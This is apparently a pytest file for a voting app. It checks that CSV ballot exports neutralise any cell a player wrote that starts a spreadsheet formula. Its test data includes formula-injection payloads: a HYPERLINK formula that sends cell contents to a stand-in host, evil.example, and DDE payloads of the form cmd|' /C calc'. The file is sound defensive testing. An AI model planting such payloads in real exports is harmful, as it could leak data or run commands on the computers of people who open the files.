"""CSV exports: no cell a player wrote can run as a spreadsheet formula.

A spreadsheet runs a cell starting with = + - @ (or a tab or carriage return
before one) as a formula. Every cell of every export goes through
`votes.tally.csv_cell`, which puts an apostrophe in front of such a cell.
"""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.factories import chapter_url, make_post, make_user, make_vote, prompt_list, vote_in
from tests.tally.build import VOTE, flag
from votes import audit, selectors, services
from votes.reading.fold import fold
from votes.reading.types import Answer, PostKind, Reading
from votes.tally import ballots_csv, csv_cell, csv_text

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# One name or answer for each character a formula can start with.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


# --- The cell function -----------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Build dams", "Build dams"),
        ("1=1", "1=1"),  # only the first character counts
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("", ""),
        (12, "12"),
        (-3, "'-3"),  # shown as text, never computed
        (None, ""),
    ],
)
def test_it_neutralises_a_cell_only_when_it_starts_a_formula(value, cell):
    assert csv_cell(value) == cell


# Text made mostly of the characters that matter here, so each run tries them.
CELLS = st.text(st.sampled_from("=+-@\t\r\n,;\"' aZ1é\x00"), max_size=8) | st.text(max_size=8)


@given(st.lists(st.lists(CELLS, min_size=1, max_size=5), max_size=5))
def test_it_writes_every_cell_through_the_cell_function(rows):
    read = _rows(csv_text(rows))

    assert _formula_cells(read) == []
    assert read == [[csv_cell(value) for value in row] for row in rows]


def _ballot(post_id: int, author: str, write_in: str) -> Reading:
    answers = (Answer(1, letters=("B",)), Answer(3, text=write_in))
    return Reading(post_id=post_id, author=author, kind=PostKind.BALLOT, answers=answers)


def test_it_neutralises_hostile_voters_and_answers_in_the_ballots_export():
    answers = dict(zip(HOSTILE, reversed(HOSTILE), strict=True))
    readings = [_ballot(n, name, answers[name]) for n, name in enumerate(HOSTILE, start=1)]
    held = Reading(post_id=99, author="-held", kind=PostKind.BALLOT, flags=(flag(1, "1A"),))

    rows = _rows(ballots_csv(fold(VOTE, [*readings, held]), VOTE))

    assert _formula_cells(rows) == []
    counted = [row for row in rows[1:] if row[4] == "counted"]
    assert sorted(row[0] for row in counted) == sorted(["'" + name for name in HOSTILE] * 2)
    assert {(row[0], row[3]) for row in counted if row[2] == "3"} == {
        ("'" + name, "'" + answer) for name, answer in answers.items()
    }
    assert rows[-1] == ["'-held", "99", "1", "A", "held back"]


# --- Through the real view -------------------------------------------------------

PROMPTS = prompt_list("single", "write_in")


def test_it_serves_a_csv_with_no_formula_in_any_cell(client, quest, quest_master, player):
    vote = make_vote(quest, quest_master, PROMPTS)
    voters = {name: make_user(name) for name in HOSTILE}
    for name, voter in voters.items():
        vote_in(vote, voter, '1-B\n2-=HYPERLINK("http://evil.example")')
        vote_in(vote, make_user(name + " held"), "1-Z")  # held back: option Z is no option
    vote_in(vote, player, "2-@SUM(1+1)")
    client.force_login(player)

    response = client.get(chapter_url(vote, "chapter-ballots-csv"))

    assert response.status_code == 200
    rows = _rows(response.getvalue().decode())
    assert rows[0] == ["voter", "post", "prompt", "answer", "status"]
    assert _formula_cells(rows) == []
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + name for name in HOSTILE} | {
        "'" + name + " held" for name in HOSTILE
    } | {"player"}
    write_ins = {row[3] for row in rows[1:] if row[2] == "2"}
    assert write_ins == {'\'=HYPERLINK("http://evil.example")', "'@SUM(1+1)"}
    assert {row[4] for row in rows[1:] if row[0].endswith(" held")} == {"held back"}


def test_it_streams_the_stored_ballots_as_the_fold_would_write_them(
    client, quest, quest_master, moderator, player
):
    vote = make_vote(
        quest, quest_master, prompt_list("single", "multi", "ranked", "write_in", options=3)
    )
    quest = vote.chapter.quest
    for name, body in [
        ("Zoe", "1-A\n2-A, C\n3: C > A > B\n4-Build dams"),
        ("adam", "1-B\n4-Build schools"),
        ("Émile", "1-C\n2-B"),
        ("bob", "1-A maybe"),  # held back, A suggested
        ("carl", "2-Z"),  # held back: no option Z
    ]:
        make_post(quest, make_user(name), body)
    make_post(quest, make_user("adam2"), "1-B\n4-Build schools")
    changed = make_post(quest, player, "1-A")
    services.vote_recount(vote_id=vote.pk)
    audit.decision_record(
        vote=vote,
        post=changed,
        prompt=None,
        action="set",
        answer={"prompt": 1, "letters": ["C"]},
        reason="Said C in the thread",
        by=moderator,
    )
    services.vote_recount(vote_id=vote.pk)
    client.force_login(player)

    response = client.get(chapter_url(vote, "chapter-ballots-csv"))

    assert response.streaming
    _, extra = services.tally_compute(vote=vote, read_stale=False)
    folded = ballots_csv(extra["folded"], selectors.vote_spec(vote))
    assert response.getvalue().decode() == folded
    assert "held back" in folded and "Build schools" in folded
